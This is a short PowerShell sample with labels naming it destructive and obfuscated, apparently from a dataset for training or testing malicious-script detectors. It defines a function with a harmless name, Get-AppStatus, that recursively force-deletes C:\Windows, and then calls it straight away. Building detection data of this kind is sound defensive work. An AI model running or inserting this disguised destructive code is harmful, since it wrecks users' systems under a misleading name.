# description: Defines a function named Get-AppStatus that deletes C:\Windows and calls it.
# family: destruction
# obfuscated: yes
function Get-AppStatus {
    param($Target = 'C:\Windows')
    Remove-Item -Path $Target -Recurse -Force
}
Get-AppStatus
